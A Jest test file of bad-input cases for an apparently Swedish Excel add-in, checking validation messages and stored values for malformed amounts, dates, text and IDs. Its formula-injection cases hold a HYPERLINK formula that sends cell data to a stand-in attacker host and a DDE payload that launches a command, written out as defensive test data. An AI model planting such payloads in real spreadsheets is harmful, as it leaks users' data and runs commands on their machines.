/**
 * Bad input, one table (issue 6 §1). Each case: the input, where it enters, and the outcome —
 * the exact Swedish message(s) on their fields, or acceptance with the stored value.
 * - "formulär": typed into the entry form's reducer, validated as the form does, and when
 *   valid saved through the adapter on the simulated Excel and read back.
 * - "blad": typed by hand into the registration table, then read with `readEffects`: every row
 *   comes back as an effect or as an invalid row, blank rows are skipped, no cell is changed.
 * The pane's own proof that nothing typed is lost is the e2e suite's (tests/e2e).
 */
import { formulaAgreementMessages } from "../../src/domain/messages.sv";
import { describe, expect, it } from "@jest/globals";
import {
  expectCase,
  form,
  no,
  ok,
  oneOff,
  penalty,
  rows,
  sheet,
  type Case,
} from "./support/badInputCases";

/** The messages, as the person reads them (NBSP shown as a space). */
const M = {
  caseName: "Ange ärendet, t.ex. avtalets eller upphandlingens namn.",
  category: "Välj en kategori.",
  department: "Välj en förvaltning.",
  startDate:
    "Ange datum: när avtalet börjar, eller dagen för engångsbeloppet. Skriv ÅÅÅÅ-MM-DD, t.ex. 2026-03-01.",
  contractYears: "Ange avtalstiden i år, t.ex. 4 eller 0,5.",
  unknownDepartment:
    "”Tekniska förvaltningen” finns inte i listan Förvaltning. Välj ett värde i listan, eller lägg till ”Tekniska förvaltningen” i listan.",
  notANumber: "Skriv beloppet med siffror, t.ex. 175 000, 175 000 kr eller 3,2 mkr.",
  ambiguous: (typed: string, reading: string) =>
    `Beloppet ”${typed}” kan läsas på två sätt, så det gissas inte. Menar du ${reading} kr, skriv det med mellanslag mellan tusental.`,
  mixedUnits: "Beloppet har flera enheter. Använd en av kr, tkr eller mkr, t.ex. 3,2 mkr.",
  tooLarge: (label: string) =>
    `${label} är över 1 000 miljarder kr. Kontrollera beloppet, t.ex. 3,2 mkr eller 3 200 000.`,
  negative: (label: string) => `${label} kan inte vara under 0 kr. Ta bort minustecknet.`,
  negativeOneOff:
    "Beloppet kan inte vara under 0 kr. Ta bort minustecknet: ett engångsbelopp är pengar som kommer tillbaka eller som inte behövde betalas.",
  zero: "Besparingen blir 0 kr. Ange beloppet, eller fyll i sparade timmar om effekten inte går att räkna i kronor.",
  costIncrease:
    "Årligt belopp blir −1 000 000 kr, alltså en kostnadsökning. Bekräfta kostnadsökningen, eller rätta värdena.",
  noSuchDay: "Datumet finns inte i kalendern. Skriv datum som ÅÅÅÅ-MM-DD, t.ex. 2026-03-01.",
  dayFirst: "Datumet kan läsas på flera sätt. Skriv datum som ÅÅÅÅ-MM-DD, t.ex. 2026-03-01.",
  yearsZero: "Avtalstiden måste vara mer än 0 år, t.ex. 4 eller 0,5 för ett halvår.",
  years99: "Avtalstiden kan vara högst 20 år (nu 99). Kontrollera värdet.",
  realisedBeforeStart:
    "Datum för realisering är före startdatum (2026-01-01). Kontrollera datumen.",
  comment100k: "Kommentar får vara högst 2000 tecken, nu är det 100 000. Korta texten.",
  control:
    "Ärende innehåller dolda styrtecken, ofta från inklistrad text. Skriv in texten på nytt.",
  lineBreak: "Leverantör ska stå på en rad. Ta bort radbrytningen.",
  yesNo: "Svara Ja eller Nej, eller lämna tomt för typens standardval.",
  hoursNegative: "Sparade timmar kan inte vara under 0. Ta bort minustecknet.",
  incomplete:
    "Ange även ny årlig kostnad, så kan det årliga beloppet räknas ut. Eller töm tidigare årlig kostnad.",
  registered:
    "Registreringsdatumet går inte att läsa. Skriv datum som ÅÅÅÅ-MM-DD, t.ex. 2026-03-01.",
  missingId: "Raden saknar ID. Låt tillägget registrera effekten, så får den ett ID.",
  duplicateId:
    "ID E-HAND0001 finns på flera rader. Ta bort dubbletten, eller töm ID-cellen så får raden ett nytt.",
};

const HYPERLINK = '=HYPERLINK("http://angripare.example/?d="&A1,"Klicka här")';
const CMD = "+cmd|' /C calc'!A0";
const EMOJI = "Skrivare 🖨️ till alla 👩🏽‍💻 🇸🇪";
const RTL = "شركة الطباعة المحدودة – מחיר חדש";

const CASES: Case[] = [
  // Empty and whitespace-only
  form("tomt ärende", { caseName: "" }, no("caseName", M.caseName)),
  form("ärende med bara mellanslag och tabb", { caseName: " \t  " }, no("caseName", M.caseName)),
  form("förvaltning med bara mellanslag", { department: "   " }, no("department", M.department)),
  form("tomt startdatum", { startDate: "" }, no("startDate", M.startDate)),
  form(
    "avtalstid med bara mellanslag",
    { contractYears: "  " },
    no("contractYears", M.contractYears)
  ),
  sheet("ärende med bara mellanslag", { Ärende: "   " }, no("caseName", M.caseName)),
  sheet("tom kategori", { Kategori: "" }, no("category", M.category)),
  // Negative and zero amounts
  form(
    "negativ tidigare årlig kostnad",
    { previousAnnualCost: "-5 mkr" },
    no("previousAnnualCost", M.negative("Tidigare årlig kostnad"))
  ),
  form("samma kostnad före och efter", { newAnnualCost: "5 mkr" }, no("annualAmount", M.zero)),
  form(
    "kostnadsökning utan bekräftelse",
    { newAnnualCost: "6 mkr" },
    no("annualAmount", M.costIncrease)
  ),
  oneOff(
    "negativt engångsbelopp",
    { oneOffAmount: "−175 000" },
    no("oneOffAmount", M.negativeOneOff)
  ),
  oneOff("engångsbelopp 0", { oneOffAmount: "0" }, no("oneOffAmount", M.zero)),
  form("negativa sparade timmar", { savedHours: "-8 000" }, no("savedHours", M.hoursNegative)),
  sheet(
    "negativt engångsbelopp",
    penalty({ "Engångsbelopp (kr)": -175_000 }),
    no("oneOffAmount", M.negativeOneOff)
  ),
  sheet("engångsbelopp 0", penalty({ "Engångsbelopp (kr)": 0 }), no("oneOffAmount", M.zero)),
  // A row typed by hand has no confirm box: a negative yearly amount there is deliberate.
  sheet(
    "kostnadsökning skriven för hand",
    { "Ny årlig kostnad (kr)": 6_000_000, "Årligt belopp (kr)": -1_000_000 },
    ok({ annualAmount: -1_000_000 })
  ),
  // NaN-like text and separators
  form("NaN som belopp", { previousAnnualCost: "NaN" }, no("previousAnnualCost", M.notANumber)),
  form("Infinity som belopp", { newAnnualCost: "Infinity" }, no("newAnnualCost", M.notANumber)),
  oneOff("undefined som belopp", { oneOffAmount: "undefined" }, no("oneOffAmount", M.notANumber)),
  form(
    "1,234,567",
    { previousAnnualCost: "1,234,567" },
    no("previousAnnualCost", M.ambiguous("1,234,567", "1 234 567"))
  ),
  form("1.234", { newAnnualCost: "1.234" }, no("newAnnualCost", M.ambiguous("1.234", "1 234"))),
  oneOff(
    "1 234 567 med mellanslag",
    { oneOffAmount: "1 234 567" },
    ok({ oneOffAmount: 1_234_567 })
  ),
  oneOff("0,2 mkr", { oneOffAmount: "0,2 mkr" }, ok({ oneOffAmount: 200_000 })),
  sheet("NaN som text", { "Ny årlig kostnad (kr)": "NaN" }, no("newAnnualCost", M.notANumber)),
  sheet(
    "1,234,567 som text",
    { "Tidigare årlig kostnad (kr)": "1,234,567" },
    no("previousAnnualCost", M.ambiguous("1,234,567", "1 234 567"))
  ),
  // Amounts above 10^12
  form(
    "1 000 000 000 001 kr",
    { previousAnnualCost: "1 000 000 000 001" },
    no("previousAnnualCost", M.tooLarge("Tidigare årlig kostnad"))
  ),
  oneOff(
    "2 000 000 mkr",
    { oneOffAmount: "2 000 000 mkr" },
    no("oneOffAmount", M.tooLarge("Belopp"))
  ),
  oneOff("exakt 10^12 kr", { oneOffAmount: "1 000 000 000 000" }, ok({ oneOffAmount: 1e12 })),
  sheet(
    "2·10^12 i årligt belopp",
    { "Årligt belopp (kr)": 2e12 },
    no("annualAmount", M.tooLarge("Årligt belopp"))
  ),
  // Mixed units
  form(
    "3 mkr 200 tkr",
    { previousAnnualCost: "3 mkr 200 tkr" },
    no("previousAnnualCost", M.mixedUnits)
  ),
  sheet(
    "3 mkr 200 tkr som text",
    { "Tidigare årlig kostnad (kr)": "3 mkr 200 tkr" },
    no("previousAnnualCost", M.mixedUnits)
  ),
  // Dates
  form("2026-02-30", { startDate: "2026-02-30" }, no("startDate", M.noSuchDay)),
  form("31/12/26", { startDate: "31/12/26" }, no("startDate", M.dayFirst)),
  sheet(
    "2026-02-30 som text (Excel gör inget datum av det)",
    { Startdatum: "2026-02-30" },
    no("startDate", M.noSuchDay)
  ),
  sheet("31/12/26 som text", { Startdatum: "31/12/26" }, no("startDate", M.dayFirst)),
  sheet("registreringsdatum som text", { Registrerad: "igår" }, no("registered", M.registered)),
  // Contract length
  form("avtalstid 0", { contractYears: "0" }, no("contractYears", M.yearsZero)),
  form("avtalstid 0,5", { contractYears: "0,5" }, ok({ contractYears: 0.5 })),
  form("avtalstid 99", { contractYears: "99" }, no("contractYears", M.years99)),
  sheet("avtalstid 0", { "Avtalstid (år)": 0 }, no("contractYears", M.yearsZero)),
  // The pane could read it, but the calculated column's N() makes it 0: a row to fix, so that
  // the summary's formulas and the pane never count it differently (issue 16).
  sheet(
    "avtalstid 0,5 år som text",
    { "Avtalstid (år)": "0,5 år" },
    no("contractYears", formulaAgreementMessages.textNumber("Avtalstid (år)"))
  ),
  sheet("avtalstid 0,5 år som tal", { "Avtalstid (år)": 0.5 }, ok({ contractYears: 0.5 })),
  sheet("avtalstid 99", { "Avtalstid (år)": 99 }, no("contractYears", M.years99)),
  // Realised before the start
  form(
    "realiserad före startdatum",
    { status: "Realiserad", realised: "2 mkr", realisedDate: "2025-12-31" },
    no("realisedDate", M.realisedBeforeStart)
  ),
  sheet(
    "realiserad före startdatum",
    { Status: "Realiserad", "Realiserad effekt (kr)": 2e6, "Realiserad datum": 46022 },
    no("realisedDate", M.realisedBeforeStart)
  ),
  // Lists
  form(
    "okänd förvaltning",
    { department: "Tekniska förvaltningen" },
    no("department", M.unknownDepartment)
  ),
  form(
    "förvaltning i gemener med mellanslag",
    { department: " kommunstyrelseförvaltningen " },
    ok({ department: "Kommunstyrelseförvaltningen" })
  ),
  sheet(
    "okänd förvaltning",
    { Förvaltning: "Tekniska förvaltningen" },
    no("department", M.unknownDepartment)
  ),
  // Long, hidden and foreign text
  oneOff(
    "kommentar på 100 000 tecken",
    { comment: "x".repeat(100_000) },
    no("comment", M.comment100k)
  ),
  form("tabb inne i ärendet", { caseName: "Utskrift\tsom tjänst" }, no("caseName", M.control)),
  form(
    "radbrytning i leverantör",
    { supplier: "Skrivar-\r\nbolaget" },
    no("supplier", M.lineBreak)
  ),
  form(
    "emoji",
    { caseName: EMOJI, comment: `${EMOJI}\nRad två 🎉` },
    ok({ caseName: EMOJI, comment: `${EMOJI}\nRad två 🎉` })
  ),
  form(
    "höger-till-vänster-text",
    { supplier: RTL, comment: RTL },
    ok({ supplier: RTL, comment: RTL })
  ),
  sheet(
    "emoji och höger-till-vänster-text",
    { Kommentar: EMOJI, Leverantör: RTL },
    ok({ comment: EMOJI, supplier: RTL })
  ),
  // Formula injection: stored as text, read back identical, no formula in the cell
  form("=HYPERLINK(...)", { caseName: HYPERLINK }, ok({ caseName: HYPERLINK })),
  form("+cmd|' /C calc'!A0", { comment: CMD }, ok({ comment: CMD })),
  form("-2+3", { supplier: "-2+3" }, ok({ supplier: "-2+3" })),
  form("@SUM(A1:A2)", { caseNumber: "@SUM(A1:A2)" }, ok({ caseNumber: "@SUM(A1:A2)" })),
  // Leading whitespace is trimmed like every text; what remains is still kept as text.
  form("tabb före =1+1", { comment: "\t=1+1" }, ok({ comment: "=1+1" })),
  form("CR före =1+1", { caseNumber: "\r=1+1" }, ok({ caseNumber: "=1+1" })),
  sheet(
    "formel skriven som text med apostrof",
    { Ärende: { text: HYPERLINK }, Kommentar: { text: CMD } },
    ok({ caseName: HYPERLINK, comment: CMD })
  ),
  // Hand-typed rows: wrong kinds of values
  sheet(
    "text i beloppskolumn",
    { "Årligt belopp (kr)": "två miljoner" },
    no("annualAmount", M.notANumber)
  ),
  sheet("SANT i beloppskolumn", { "Årligt belopp (kr)": true }, no("annualAmount", M.notANumber)),
  sheet("tal i textkolumn", { Diarienummer: 2025123 }, ok({ caseNumber: "2025123" })),
  sheet(
    "Budgetpåverkande ”kanske”",
    { Budgetpåverkande: "kanske" },
    no("budgetAffecting", M.yesNo)
  ),
  // The simulated Excel has no merged cells. A merge keeps its value in the first cell of the
  // span and leaves the others blank, which is what these rows hold.
  rows(
    "sammanslagen Kategori och Förvaltning över två rader",
    [{}, { Kategori: "", Förvaltning: "" }],
    ok(),
    no("category", M.category, ["department", M.department])
  ),
  sheet(
    "sammanslagna kostnadskolumner (värdet bara i den första)",
    { "Ny årlig kostnad (kr)": "" },
    no("newAnnualCost", M.incomplete)
  ),
  // Blank rows and ids
  rows("tom rad mitt i tabellen", [{}, null, {}], ok(), "skipped", ok()),
  rows("dubblerat id", [{}, { ID: "E-HAND0001" }], ok(), no("id", M.duplicateId)),
  sheet("rad utan id", { ID: "" }, no("id", M.missingId)),
];

describe("dålig inmatning: ett tydligt svenskt besked eller korrekt lagrat värde", () => {
  it("tabellen har minst 40 fall", () => expect(CASES.length).toBeGreaterThanOrEqual(40));

  it.each(CASES)("$entry: $what", (c) => expectCase(c));
});
